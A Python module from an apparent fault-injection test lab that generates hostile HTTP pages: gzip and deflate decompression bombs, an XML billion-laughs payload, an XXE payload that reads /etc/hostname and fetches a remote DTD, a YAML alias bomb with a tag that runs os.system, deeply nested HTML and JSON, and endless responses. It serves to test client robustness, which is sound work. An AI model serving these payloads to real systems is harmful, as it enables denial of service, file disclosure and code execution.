"""Small pages that become large, or never end, in the hands of whoever unpacks them."""

from __future__ import annotations

import gzip
import zlib
from collections.abc import Mapping
from functools import cache, partial
from typing import Any

from lab.faults.base import Behaviour, Settings

_BLOCK = 1 << 20

XML_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol0 "lol">\n'
    + "".join(f' <!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">\n' for n in range(1, 10))
    + "]>\n<html><head><title>&lol9;</title></head><body>&lol9;</body></html>\n"
)
XML_EXTERNAL = (
    '<?xml version="1.0"?>\n<!DOCTYPE r [\n <!ENTITY file SYSTEM "file:///etc/hostname">\n'
    ' <!ENTITY net SYSTEM "http://{address}:8081/xxe">\n'
    ' <!ENTITY % remote SYSTEM "http://{address}:8081/xxe.dtd">\n %remote;\n]>\n'
    "<html><head><title>&file;&net;</title></head><body>&file;</body></html>\n"
)
YAML_BOMB = (
    "a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n"
    + "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 10))
    + "tag: !!python/object/apply:os.system ['true']\n"
)
DEEP_HTML = "<div>" * 200_000 + "<title>deep</title>"
DEEP_JSON = "[" * 200_000


@cache
def packed(encoding: str, mebibytes: int) -> bytes:
    """So many MiB of the letter A under gzip or deflate; about a thousandth of that in size."""
    wbits = {"gzip": 31, "deflate": 15}[encoding]
    packer = zlib.compressobj(9, zlib.DEFLATED, wbits)
    page = b"<html><head><title>" + b"A" * (_BLOCK - 19)
    pieces = [packer.compress(page)]
    pieces += [packer.compress(b"A" * _BLOCK) for _ in range(mebibytes - 1)]
    return b"".join(pieces) + packer.flush()


@cache
def packed_twice(mebibytes: int) -> bytes:
    return gzip.compress(packed("gzip", mebibytes), mtime=0)


def page(bomb: str, mebibytes: int, address: str) -> tuple[bytes, tuple[tuple[str, str], ...]]:
    """Body and headers of one bomb's page. `address` is where an external entity points to."""
    html = ("Content-Type", "text/html; charset=utf-8")
    match bomb:
        case "gzip" | "deflate":
            return packed(bomb, mebibytes), (html, ("Content-Encoding", bomb))
        case "gzip_twice":
            return packed_twice(mebibytes), (html, ("Content-Encoding", "gzip, gzip"))
        case "xml_laughs":
            return XML_LAUGHS.encode(), (("Content-Type", "application/xhtml+xml"),)
        case "xml_external":
            text = XML_EXTERNAL.replace("{address}", address)
            return text.encode(), (("Content-Type", "application/xml"),)
        case "yaml":
            return YAML_BOMB.encode(), (("Content-Type", "application/yaml"),)
        case "deep_html":
            return DEEP_HTML.encode(), (html,)
        case "deep_json":
            return DEEP_JSON.encode(), (("Content-Type", "application/json"),)
    raise ValueError(f"there is no bomb {bomb!r}")


KINDS = (
    ("gzip", "A page that gzip has made a thousand times smaller."),
    ("deflate", "A page that deflate has made a thousand times smaller."),
    ("gzip_twice", "A page packed by gzip twice."),
    ("xml_laughs", "An XML page whose entities grow to a thousand million words."),
    ("xml_external", "An XML page whose entities point to a file and to another address."),
    ("yaml", "A YAML page whose aliases grow, with a tag that would run a program."),
    ("deep_html", "A page of 200,000 elements, each in the one before."),
    ("deep_json", "A JSON page of 200,000 lists, each in the one before."),
    ("chunks", "A page in chunks that never ends."),
    ("headers", "A reply whose headers never end."),
)


def _alter(
    protocol: str, settings: Settings, parameters: Mapping[str, Any], *, bomb: str
) -> Settings:
    return {
        **settings,
        "bomb": bomb,
        "bomb_mebibytes": int(parameters["mebibytes"]),
    }


FAULTS = tuple(
    Behaviour(
        name=f"bomb_{bomb}",
        meaning=meaning,
        alter=partial(_alter, bomb=bomb),
        parameters={"mebibytes": 256},
        needs=lambda known: known.pages,
        because="of the protocols here only HTTP carries packed or structured documents",
    )
    for bomb, meaning in KINDS
)
